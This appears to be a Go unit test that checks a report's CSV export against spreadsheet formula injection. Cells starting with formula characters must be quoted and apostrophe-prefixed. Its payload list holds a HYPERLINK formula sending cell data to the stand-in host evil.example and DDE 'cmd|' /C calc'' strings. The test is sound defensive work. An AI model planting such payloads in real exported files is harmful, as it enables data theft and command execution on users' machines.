package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/consultahq/consulta/intake/figures"
)

// TestCSVCellsAreText: no cell of the CSV can be read by a spreadsheet as
// a formula. Each cell that begins with a character that starts one (=,
// +, -, @, a tab, a carriage return, a line feed, a NUL, or their
// full-width forms) is prefixed with an apostrophe, and every cell is
// quoted, as OWASP recommends; a CSV reader gets each value back whole.
func TestCSVCellsAreText(t *testing.T) {
	payloads := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		"\t=1+2",
		"\r=1+2",
		"\n=1+2",
		"\x00=1+2",
		"＝1+2", "＋1", "－1", "＠SUM(A1)",
		`=1+2";=1+2`, // a quote and a separator inside
		"google", "",
	}
	for _, p := range payloads {
		received := time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
		r := figures.Report{Leads: []figures.Lead{{Ref: p, ID: p, State: p, Received: received, ClaimedBy: p, Procedure: p, Source: p}}}
		var out bytes.Buffer
		if err := WriteCSV(&out, r); err != nil {
			t.Fatal(err)
		}
		lines := strings.SplitAfter(out.String(), "\n")
		if !strings.HasPrefix(lines[1], `"`) {
			t.Errorf("%q: a row whose first cell is not quoted: %q", p, lines[1])
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %d rows, %v:\n%s", p, len(rows), err, out.String())
		}
		for i, cell := range rows[1] {
			if i >= 3 && i <= 5 || i >= 7 && i <= 12 { // times, calls and the outcome: the service's own
				continue
			}
			want := p
			if formulaStart(p) {
				want = "'" + p
			}
			if cell != want {
				t.Errorf("%q: cell %d is %q, want %q", p, i, cell, want)
			}
		}
	}
}

// formulaStart reports whether a spreadsheet may read s as a formula.
func formulaStart(s string) bool {
	for _, c := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠"} {
		if strings.HasPrefix(s, c) {
			return true
		}
	}
	return false
}
